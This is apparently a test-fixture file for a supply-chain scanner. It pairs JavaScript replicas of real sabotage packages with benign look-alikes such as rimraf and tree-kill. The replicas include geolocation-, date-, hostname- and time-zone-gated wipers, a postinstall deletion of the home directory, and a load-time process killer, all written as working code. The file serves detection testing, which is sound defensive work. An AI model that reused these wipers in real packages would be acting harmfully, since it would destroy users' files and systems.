"""Destruction and sabotage: wipers gated on location, date, host or user; ungated wipes of home or root;
process killers at load time; and the cleanup code, date libraries and process managers that look like
them. Every payload is defanged: the targets are real-looking but nothing here runs (the scanner reads
bytes), hosts are under `.invalid`, and each replica names the real-world shape it follows."""

from __future__ import annotations

from tests.incidents.replica import Replica

INCIDENTS: list[Replica] = [
    # node-ipc 10.1.1 / peacenotwar (March 2022, GHSA-97m3-w2cp-4xx6): on import, ask ipgeolocation.io where
    # the machine is and, for Russia/Belarus, walk ./, ../, ../../ and / overwriting every file with a
    # heart. Here the country names come back from the service only (no literal to match), so the gate is
    # the geolocation lookup itself around a walker.
    Replica(
        "peacenotwar-geo-walker-at-load",
        {
            "ssl-geospec.js": (
                "const path = require('path'), fs = require('fs'), https = require('https');\n"
                "const targets = require('./targets.json');\n"
                "setTimeout(function () {\n"
                "  https.get('https://api.ipgeolocation.io/ipgeo?apiKey=0000', function (res) {\n"
                "    res.on('data', function (d) {\n"
                "      const info = JSON.parse(d.toString('utf8'));\n"
                "      if (targets.includes(info.country_name.toLowerCase())) {\n"
                "        h('./'); h('../'); h('../../'); h('/');\n"
                "      }\n"
                "    });\n"
                "  });\n"
                "}, Math.ceil(Math.random() * 1e3));\n"
                "function h(n) {\n"
                "  if (!fs.existsSync(n)) return;\n"
                "  let r = [];\n"
                "  try { r = fs.readdirSync(n); } catch (t) {}\n"
                "  for (let e = 0; e < r.length; e++) {\n"
                "    const i = path.join(n, r[e]);\n"
                "    let t = null;\n"
                "    try { t = fs.lstatSync(i); } catch (x) { continue; }\n"
                "    if (t.isDirectory()) h(i);\n"
                "    else { try { fs.writeFile(i, '\\u2764\\ufe0f', function () {}); } catch (x) {} }\n"
                "  }\n"
                "}\n"
            ),
            "targets.json": '["defanged-country-a", "defanged-country-b"]\n',
            "index.js": "require('./ssl-geospec.js');\nmodule.exports = {};\n",
        },
        "block",
        frozenset({"conditioned-destruction", "recursive-wipe", "geolocation-lookup"}),
        name="peacenotwar-like",
    ),
    # Date-triggered wipers in npm plugins (Socket Threat Research, May 2025: packages posing as Vite/React/
    # Vue helpers that deleted project and home files only after a hard-coded date, so they passed review and
    # early use). Logic-bomb shape: a fixed timestamp compared with now, then rm -rf of home at load.
    Replica(
        "date-gated-logic-bomb",
        {
            "index.js": (
                "const fs = require('fs');\nconst os = require('os');\n"
                "function setup(options) { return Object.assign({ enabled: true }, options); }\n"
                "if (Date.now() > 1767225600000) {\n"
                "  try { fs.rmSync(os.homedir(), { recursive: true, force: true }); } catch (e) {}\n"
                "}\n"
                "module.exports = setup;\n"
            )
        },
        "block",
        frozenset({"conditioned-destruction", "recursive-wipe"}),
        name="vite-plugin-helper-like",
    ),
    # Host/user-gated sabotage (the targeting of the 2022 protestware wave and of 2024-2025 targeted
    # packages: act only on the victim's build hosts, stay quiet on researchers' sandboxes). The wipe walks
    # the working directory from a helper the gate calls.
    Replica(
        "hostname-gated-wiper",
        {
            "lib/clean.js": (
                "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
                "function scrub(dir) {\n"
                "  for (const name of fs.readdirSync(dir)) {\n"
                "    const p = path.join(dir, name);\n"
                "    if (fs.statSync(p).isDirectory()) scrub(p); else fs.unlinkSync(p);\n"
                "  }\n"
                "}\n"
                "if (os.hostname().startsWith('ci-build-') && os.userInfo().username !== 'sandbox') {\n"
                "  scrub(process.cwd());\n"
                "}\n"
            ),
            "index.js": "require('./lib/clean');\nmodule.exports = () => {};\n",
        },
        "block",
        frozenset({"conditioned-destruction", "recursive-wipe"}),
        name="build-cache-helper",
    ),
    # Ungated wipe of home from a postinstall (the shape of the 2025 "kill switch" packages Socket reported,
    # minus the remote trigger): fs.rm of home at install time.
    Replica(
        "postinstall-home-wipe",
        {
            "scripts/postinstall.js": (
                "const fs = require('fs');\nconst os = require('os');\n"
                "fs.rm(os.homedir(), { recursive: true, force: true }, () => {});\n"
            )
        },
        "block",
        frozenset({"recursive-wipe"}),
        manifest={"scripts": {"postinstall": "node scripts/postinstall.js"}},
        name="express-sync-helper",
    ),
    # Load-time process killer (sabotage shape seen in 2022 protestware and 2025 "kill switch" packages):
    # on require, kill every process the user may signal, and named programs on Windows.
    Replica(
        "load-time-process-killer",
        {
            "index.js": (
                "const { exec } = require('child_process');\n"
                "exec('taskkill /F /IM node.exe');\n"
                "try { process.kill(-1, 'SIGKILL'); } catch (e) {}\n"
                "module.exports = function noop() {};\n"
            )
        },
        "block",
        frozenset({"process-killing"}),
        name="fast-noop",
    ),
    # Time-zone-gated wiper: es5-ext 0.10.63 (March 2022) gated on `resolvedOptions().timeZone` naming Russian
    # zones (it only printed a message: see the look-alike below); this replica puts node-ipc's overwrite
    # behind that gate, aimed at the project's sources (not a broad target: the gate alone blocks it).
    Replica(
        "timezone-gated-overwrite",
        {
            "index.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
                "function fill(dir) {\n"
                "  for (const n of fs.readdirSync(dir)) {\n"
                "    const p = path.join(dir, n);\n"
                "    try { fs.statSync(p).isDirectory() ? fill(p) : fs.writeFileSync(p, '-'); } catch (e) {}\n"
                "  }\n"
                "}\n"
                "if (['Europe/Defanged', 'Asia/Defanged'].includes(zone)) fill(path.join(process.cwd(), 'src'));\n"
                "module.exports = {};\n"
            )
        },
        "block",
        frozenset({"conditioned-destruction"}),
        name="time-utils-like",
    ),
    # colors 1.4.1 (January 2022): the endless zalgo loop sat in the entry point, so every program that
    # required colors hung. At load time the loop is high (a human must look); alone it is not a block.
    Replica(
        "colors-entry-point-endless-loop",
        {
            "lib/index.js": (
                "var colors = {};\nmodule.exports = colors;\n"
                "for (let i = 666; i < Infinity; i++) {\n"
                "  console.log('LIBERTY LIBERTY LIBERTY');\n}\n"
            )
        },
        "review",
        frozenset({"module-level-endless-loop"}),
        manifest={"main": "lib/index.js"},
        name="colors-like",
    ),
]

BENIGN: list[Replica] = [
    # rimraf / del: delete the directory the caller names, recursively, walking it by hand on old Node.
    Replica(
        "rimraf-caller-directory",
        {
            "index.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "function rimrafSync(dir) {\n"
                "  if (fs.rmSync) return fs.rmSync(dir, { recursive: true, force: true });\n"
                "  for (const entry of fs.readdirSync(dir)) {\n"
                "    const p = path.join(dir, entry);\n"
                "    if (fs.lstatSync(p).isDirectory()) rimrafSync(p); else fs.unlinkSync(p);\n"
                "  }\n"
                "  fs.rmdirSync(dir);\n"
                "}\n"
                "module.exports = rimrafSync;\n"
            ),
            "bin/clean.js": (
                "#!/usr/bin/env node\nconst fs = require('fs'); const os = require('os'); const path = require('path');\n"
                "const rimraf = require('../index.js');\n"
                "rimraf(path.join(process.cwd(), process.argv[2] || 'dist'));\n"
                "fs.rmSync(path.join(os.homedir(), '.cache', 'clean-tool'), { recursive: true, force: true });\n"
                "if (Date.now() - fs.statSync(__filename).mtimeMs > 864e5) console.log('old');\n"
            ),
        },
        "allow",
        frozenset(),
        manifest={"bin": {"clean": "bin/clean.js"}},
    ),
    # dayjs/moment-timezone/luxon: read the time zone and locale, compare with fixed dates (DST tables),
    # and write a cache file. Nothing is deleted or walked.
    Replica(
        "date-library-time-zone",
        {
            "index.js": (
                "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
                "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
                "const lang = process.env.LANG || 'en_US';\n"
                "const US_DST_2007 = new Date('2007-03-11T02:00:00Z');\n"
                "function offset(date) { return date < US_DST_2007 ? -300 : new Date().getTimezoneOffset(); }\n"
                "function cache(data) {\n"
                "  fs.writeFileSync(path.join(os.tmpdir(), 'tz-cache.json'), JSON.stringify(data));\n"
                "}\n"
                "if (new Date() > new Date('2038-01-19')) console.warn('32-bit time overflow');\n"
                "module.exports = { zone, lang, offset, cache };\n"
            )
        },
        "allow",
        frozenset(),
    ),
    # tree-kill / execa / pm2: kill the process tree of a PID the caller started.
    Replica(
        "tree-kill-child-pids",
        {
            "index.js": (
                "const { spawn, exec } = require('child_process');\n"
                "module.exports = function kill(pid, signal) {\n"
                "  if (process.platform === 'win32') {\n"
                "    exec('taskkill /pid ' + pid + ' /T /F');\n"
                "    return;\n"
                "  }\n"
                "  const ps = spawn('ps', ['-o', 'pid', '--no-headers', '--ppid', String(pid)]);\n"
                "  ps.stdout.on('data', (d) => { for (const c of String(d).split(/\\s+/).filter(Boolean)) "
                "process.kill(Number(c), signal); });\n"
                "  try { process.kill(pid, signal); } catch (e) {}\n"
                "  process.kill(-pid, signal);\n"
                "};\n"
            )
        },
        "allow",
        frozenset(),
    ),
    # es5-ext 0.10.63 (2022): checks the time zone against Russian zones and prints a message, no damage.
    Replica(
        "timezone-gated-message",
        {
            "_postinstall.js": (
                "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
                "if (['Europe/Moscow', 'Europe/Kaliningrad'].includes(zone)) {\n"
                "  console.log('\\u001b[33m' + 'a message about the war' + '\\u001b[39m');\n"
                "}\n"
            )
        },
        "allow",
        frozenset(),
        manifest={"scripts": {"postinstall": "node _postinstall.js"}},
    ),
    # A CLI whose --watch mode loops at the top level but stops when not watching (nodemon-like).
    Replica(
        "cli-watch-loop-with-exit",
        {
            "bin/cli.js": (
                "#!/usr/bin/env node\nconst fs = require('fs');\n"
                "const watch = process.argv.includes('--watch');\n"
                "let last = 0;\n"
                "while (true) {\n"
                "  const stat = fs.statSync(process.argv[2] || '.');\n"
                "  if (stat.mtimeMs !== last) { last = stat.mtimeMs; console.log('changed'); }\n"
                "  if (!watch) break;\n"
                "  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 500);\n"
                "}\n"
            )
        },
        "allow",
        frozenset(),
        manifest={"bin": {"watcher": "bin/cli.js"}},
    ),
    # A registry client that checks whether its token expired (a date, but a variable one) near a request.
    Replica(
        "token-expiry-check",
        {
            "index.js": (
                "const fs = require('fs'); const os = require('os'); const https = require('https');\n"
                "const path = require('path');\n"
                "module.exports = function whoami(registry, expires) {\n"
                "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
                "  if (Date.now() > expires) throw new Error('token expired');\n"
                "  return https.get(registry + '/-/npm/v1/user', { headers: { authorization: rc } });\n"
                "};\n"
            )
        },
        "allow",
        frozenset(),
        note="reads ~/.npmrc and sends it to the registry it is given (data flow: a client using its own "
        "credential), not a gated stealer",
    ),
]

# A CLI bundle (deploy tools bundle `public-ip` and `del`): a public-IP lookup, a temp-directory cleanup
# with a one-letter walker, and a router's `r('/')` — thousands of bytes apart, as unrelated modules are.
_FILLER = "".join(f"var m{i}=function(a){{return a+{i}}};" for i in range(400))
BENIGN.append(
    Replica(
        "cli-bundle-ip-lookup-and-cleanup",
        {
            "dist/cli.js": (
                "var fs=require('fs'),path=require('path'),https=require('https'),os=require('os');"
                "function ip(){return new Promise(function(ok){https.get('https://api.ipify.org',function(s){"
                "s.on('data',ok)})})}\n"
                + _FILLER
                + "\nfunction r(e){for(var t of fs.readdirSync(e)){var n=path.join(e,t);"
                "fs.lstatSync(n).isDirectory()?r(n):fs.unlinkSync(n)}}"
                "function clean(d){r(d);fs.rmSync(path.join(os.tmpdir(),'deploy-'+d),{recursive:!0,force:!0})}\n"
                + _FILLER
                + "\nvar routes={};(function(){function r(p,h){routes[p]=h}r('/',function(){return ip()})})();"
                "module.exports={clean:clean,ip:ip,routes:routes};\n"
            )
        },
        "allow",
        frozenset({"geolocation-lookup"}),
        manifest={"main": "dist/cli.js"},
    )
)

LOOKALIKES: dict[str, tuple[str, ...]] = {
    "recursive-wipe": (
        "rimraf-caller-directory",
        "date-library-time-zone",
        "cli-bundle-ip-lookup-and-cleanup",
    ),
    "conditioned-destruction": (
        "rimraf-caller-directory",
        "date-library-time-zone",
        "tree-kill-child-pids",
        "cli-bundle-ip-lookup-and-cleanup",
        "timezone-gated-message",
    ),
    "conditioned-exfiltration": ("token-expiry-check", "date-library-time-zone"),
    "process-killing": ("tree-kill-child-pids", "cli-spawning-git"),
    "module-level-endless-loop": ("cli-watch-loop-with-exit",),
}
